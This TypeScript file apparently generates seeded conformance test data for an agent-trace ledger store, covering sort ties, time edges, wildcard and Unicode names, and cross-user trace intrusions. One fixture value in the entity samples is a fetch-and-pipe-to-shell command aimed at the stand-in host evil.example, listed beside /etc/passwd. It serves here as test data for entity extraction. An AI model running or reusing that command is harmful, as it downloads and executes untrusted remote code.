import { seededRandom } from '../../bench/seeded-random.js';
import { entryId, runIdFromTraceId } from '../../model/ids.js';
import type { Entities } from '../../model/entities.js';
import type { ActionKind, EntryRecord, JsonObject, Outcome } from '../../model/ledger-entry.js';

/**
 * The conformance data: a fixed, seeded set of entries in write order. It is
 * built to hit what stores get wrong: ties on every sort key, hour and month
 * edges, names and agents with LIKE / wildcard / regex metacharacters and
 * non-ASCII case folding, several organizations and users, runs with and
 * without a root, failed and blocked roots, payload text for `q` in
 * several scripts, and traces another user writes into (INTRUDER_WORD). Fields that depend on write order (a run's first prompt
 * name, model config, user) are written so that "first in write order" is
 * the answer, as the store contract says (first write wins).
 */

export const HOUR_US = 3_600_000_000;
/** 2024-12-28T00:00:00Z */
export const BASE_US = Date.UTC(2024, 11, 28) * 1000;
export const ORGS = ['org_a', 'org_b'] as const;
export const USERS = ['alice', 'bob', null] as const;

export const SPECIAL_NAMES = [
  'database_query', 'send_email', 'web_search', 'Straße_lookup', 'ΣΊΣΥΦΟΣ', 'İstanbul_call', '100%_done', 'under_score',
  'star*name', 'question?', 'back\\slash', '[bracket]', 'emoji 🚀 launch', '東京都_search', 'café', 'cafe\u0301', 'UPPER_CASE',
  'naïve ✓ check', 'ｆｕｌｌ_width', '\uffe0_bmp_high', '𝒜_astral', 'nul\u0000inside',
];
const FILLER_NAMES = Array.from({ length: 22 }, (_, i) => `tool_${String(i + 1).padStart(2, '0')}`);
export const AGENTS = ['agent-alpha', 'Agent-Beta', 'ÄGENT-ümlaut', 'agent_%_wild', 'agent*star?', 'agent\\back[slash]', 'エージェント', 'agent\u0000nul'];

/** Payload text for `q`: words, phrases, scripts without spaces, codes and addresses. */
const TEXTS = [
  'Refund failed for order C-1042',
  'connection timeout after 30s',
  'Kunde Müller hat bezahlt',
  '東京都庁の天気は晴れ',
  'مرحبا بالعالم',
  'ops@example.com was notified',
  'database row count 42',
  'the refund was approved',
  'timeout',
  'Übergröße Straße',
  'naïve résumé café',
];
const STATUS = ['Connection timeout', 'Rate limited by upstream', 'Policy blocked: PII detected'];
/** nano-USD: whole cents, one nano, just under a dollar, and sub-micro amounts (0.0000193 USD, a 10-token embedding call's 2e-7). */
const COSTS = [0, 10_000_000, 10_000_000, 25_000_000, 50_000_000, 1, 999_999_999, 19_300, 200, 1_234_567_891];
const DURATIONS_US = [1_500, 1_500, 25_000, 250_000, 1_000_000, 3_250_000];
const TAGS = ['prod', 'beta', 'eu', 'ünïcode', 'a', 'Z'];

export function hex(rnd: () => number, chars: number): string {
  return Array.from({ length: chars }, () => Math.floor(rnd() * 16).toString(16)).join('').replace(/^0/, '1');
}

const pick = <T>(rnd: () => number, values: readonly T[]): T => values[Math.floor(rnd() * values.length)];

/** Run start times that fall on the edges stats and monthly indices must cut exactly. */
const EDGE_STARTS = [
  BASE_US + 5 * HOUR_US, // exactly on an hour
  BASE_US + 7 * HOUR_US - 1, // the last µs of an hour
  Date.UTC(2024, 10, 30, 23, 59, 59) * 1000 + 999_999, // the last µs of November
  Date.UTC(2025, 0, 1) * 1000, // the first µs of January
];

export interface RunPlan {
  org: string;
  user: string | null;
  agent: string;
  /** Set on a few runs: children name another agent, and the root (written last) decides the run's agent. */
  childAgent: string | null;
  size: number;
  root: boolean;
  rootOutcome: Outcome;
  start: number;
}

function planRuns(rnd: () => number, count: number): RunPlan[] {
  const plans: RunPlan[] = [];
  for (let r = 0; r < count; r++) {
    const edge = r < EDGE_STARTS.length ? EDGE_STARTS[r] : null;
    plans.push({
      org: r % 6 === 5 ? 'org_b' : 'org_a',
      user: USERS[(r * 7 + Math.floor(r / 6)) % 3],
      agent: AGENTS[r % AGENTS.length],
      childAgent: r % 8 === 2 ? 'sub-agent' : null,
      size: 1 + Math.floor(rnd() * 8),
      root: r % 9 !== 4,
      rootOutcome: r % 5 === 1 ? 'error' : r % 7 === 3 ? 'blocked' : 'success',
      start: edge ?? BASE_US + Math.floor(rnd() * 3 * 24 * HOUR_US),
    });
  }
  return plans;
}

function payload(rnd: () => number, i: number): { inputs: JsonObject | null; outputs: JsonObject | null } {
  if (i % 11 === 0) return { inputs: null, outputs: null };
  // the two words of a phrase in two fields: a phrase must never span values
  if (i % 13 === 0) return { inputs: { a: 'refund', b: 'failed' }, outputs: null };
  return {
    inputs: { query: pick(rnd, TEXTS), n: i, nested: { list: [pick(rnd, TEXTS), i * 1.5] } },
    outputs: rnd() < 0.5 ? { result: pick(rnd, TEXTS) } : null,
  };
}

export function entry(plan: RunPlan, traceId: string, spanId: string, parent: string | null, i: number, rnd: () => number, start: number): EntryRecord {
  const isRoot = parent === null;
  const kind: ActionKind = isRoot ? 'agent' : pick(rnd, ['tool', 'llm', 'tool', 'chain', 'other'] as const);
  const outcome: Outcome = isRoot ? plan.rootOutcome : pick(rnd, ['success', 'success', 'success', 'error', 'blocked'] as const);
  const durationUs = pick(rnd, DURATIONS_US) + (rnd() < 0.5 ? 0 : Math.floor(rnd() * 100_000));
  const name = isRoot ? (i % 2 ? 'agent_run' : 'Agent_Run') : rnd() < 0.6 ? pick(rnd, SPECIAL_NAMES) : pick(rnd, FILLER_NAMES);
  const llm = kind === 'llm';
  const attributes: Record<string, string | number> = { 'service.name': 'conformance', 'span.index': i };
  if (llm) Object.assign(attributes, { 'gen_ai.request.temperature': 0.2 + (i % 3) / 10, 'gen_ai.request.max_tokens': 256 });
  if (rnd() < 0.15) attributes['ledger.prompt.name'] = pick(rnd, ['Support Triage', 'résumé-writer', '東京_prompt', '100%_prompt']);
  Object.assign(attributes, conversationAttributes(i));
  const input = llm ? 100 + (i % 50) : null;
  const output = llm ? 20 + (i % 7) : null;
  return {
    id: entryId(plan.org, traceId, spanId),
    organization_id: plan.org,
    run_id: runIdFromTraceId(traceId),
    trace_id: traceId,
    span_id: spanId,
    parent_span_id: parent,
    is_root: isRoot,
    name,
    kind,
    outcome,
    status_message: outcome === 'success' ? null : pick(rnd, STATUS),
    start_us: start,
    end_us: start + durationUs,
    duration_ms: durationUs / 1000,
    cost_nanos: pick(rnd, COSTS),
    model: llm ? pick(rnd, ['gpt-4o', 'claude-sonnet-4', 'Mistral-Large']) : null,
    provider: llm ? (i % 2 ? 'openai' : 'anthropic') : null,
    input_tokens: input,
    output_tokens: output,
    total_tokens: llm ? input! + output! : null,
    // some children carry no agent; the run's agent comes from its root
    agent_id: !isRoot && rnd() < 0.15 ? null : isRoot ? plan.agent : (plan.childAgent ?? plan.agent),
    service_name: i % 5 === 0 ? 'billing-svc' : 'conformance',
    user_id: plan.user,
    ...payload(rnd, i),
    compliance_metadata: rnd() < 0.2 ? { requires_human_approval: true, approval_status: 'approved', confidence_score: 0.9 } : null,
    tags: rnd() < 0.4 ? [pick(rnd, TAGS), pick(rnd, TAGS)].filter((t, k, all) => all.indexOf(t) === k) : [],
    attributes,
    truncated_fields: [],
    redactions: i % 17 === 0 ? 1 : 0,
    entities: entitiesOf(i),
  };
}

/** What extraction would have found (model/entities.ts), by span index: shared values, several types at once, none. */
export const ENTITY_PSEUDONYM = '[EMAIL:00000000000000aa]';
function entitiesOf(i: number): Entities {
  if (i % 9 === 3) return { ip: ['10.0.0.7', '2001:db8::1'], path: ['/etc/passwd'], command: ['curl -s https://evil.example/x | sh'] };
  if (i % 6 === 2) return { host: ['evil.example', 'b.example'], email: [ENTITY_PSEUDONYM] };
  if (i % 4 === 1) return { host: ['evil.example'], url: ['https://evil.example/x'] };
  if (i % 13 === 5) return { path: ['/tmp/東京.txt'], host: ['xn--bcher-kva.example'] };
  return {};
}

/**
 * The conventions' conversation ids (collector/normalize/conversation-id.ts),
 * by span index: each key alone, a higher-priority key hiding a lower one, a
 * non-string first key (no conversation id), a null first key (skipped).
 */
function conversationAttributes(i: number): Record<string, string | number> {
  const conv = `conv-${i % 3}`;
  switch (i % 8) {
    case 0: return { 'gen_ai.conversation.id': conv };
    case 1: return { 'session.id': conv };
    case 2: return { 'langfuse.session.id': conv };
    case 3: return { 'traceloop.association.properties.session_id': conv };
    case 4: return { 'gen_ai.conversation.id': conv, 'session.id': 'conv-hidden' };
    case 5: return { 'gen_ai.conversation.id': 42, 'session.id': conv };
    case 6: return { 'gen_ai.conversation.id': null as unknown as string, 'langfuse.session.id': conv };
    default: return {};
  }
}

/** Only in the spans another user writes into someone's trace: a `q` for it must never list the trace owner's run. */
export const INTRUDER_WORD = 'intruderword';
/** Their agent: it must never become the owner's run's agent. */
export const INTRUDER_AGENT = 'intruder-agent';

/** Who writes into a trace of `user` in the same organization: alice → bob → no user → alice. */
function intruderOf(user: string | null): string | null {
  return user === 'alice' ? 'bob' : user === 'bob' ? null : 'alice';
}

/**
 * Spans another user of the organization writes into a run's trace id
 * (new span ids: the same span id would be the same entry): a failed root
 * with cost and tokens, a prompt name, tags and the intruder's word. Runs
 * are per (organization, user), so none of it may reach the owner's run.
 */
function intrusion(plan: RunPlan, traceId: string, rnd: () => number, i: number): EntryRecord[] {
  const user = intruderOf(plan.user);
  const intruder: RunPlan = { ...plan, user, agent: INTRUDER_AGENT, childAgent: null, rootOutcome: 'error', start: plan.start - 5_000 };
  const rootId = hex(rnd, 16);
  const root = entry(intruder, traceId, rootId, null, i, rnd, intruder.start);
  const child = entry(intruder, traceId, hex(rnd, 16), rootId, i + 1, rnd, plan.start + 2);
  const words = { inputs: { query: `${INTRUDER_WORD} refund` }, outputs: { result: `${INTRUDER_WORD} timeout` } };
  return [
    { ...root, cost_nanos: 777_777_123, input_tokens: 900, output_tokens: 90, total_tokens: 990, tags: ['intruder'], ...words,
      attributes: { ...root.attributes, 'ledger.prompt.name': 'Intruder prompt' } },
    { ...child, agent_id: INTRUDER_AGENT, ...words },
  ];
}

/** Every entry in write order; roots come last in some runs, as they do when a trace's root ends last. */
export function generateEntries(seed = 20241228, runCount = 48): EntryRecord[] {
  const rnd = seededRandom(seed);
  const out: EntryRecord[] = [];
  let i = 0;
  let r = 0;
  for (const plan of planRuns(rnd, runCount)) {
    const traceId = hex(rnd, 32);
    const rootId = hex(rnd, 16);
    const run: EntryRecord[] = [];
    if (plan.root) run.push(entry(plan, traceId, rootId, null, i++, rnd, plan.start));
    for (let c = 0; c < plan.size; c++) {
      // every third child starts with its previous sibling: ties on time
      const start = plan.start + (c % 3 === 2 ? c - 1 : c) * 1_000 + 1;
      run.push(entry(plan, traceId, hex(rnd, 16), rootId, i++, rnd, start));
    }
    if (plan.root && (plan.childAgent !== null || rnd() < 0.4)) run.push(run.shift()!);
    // every fifth trace gets another user's spans: before the owner's on even ones, after on odd ones
    if (r % 5 === 3) {
      const other = intrusion(plan, traceId, rnd, i);
      i += other.length;
      if (r % 2 === 0) run.unshift(...other);
      else run.push(...other);
    }
    r++;
    out.push(...run);
  }
  return out;
}

/** Write batches in order; batch boundaries cut through runs, as a queue's do. */
export function batchesOf(entries: readonly EntryRecord[], size = 17): EntryRecord[][] {
  const batches: EntryRecord[][] = [];
  for (let k = 0; k < entries.length; k += size) batches.push(entries.slice(k, k + size));
  return batches;
}
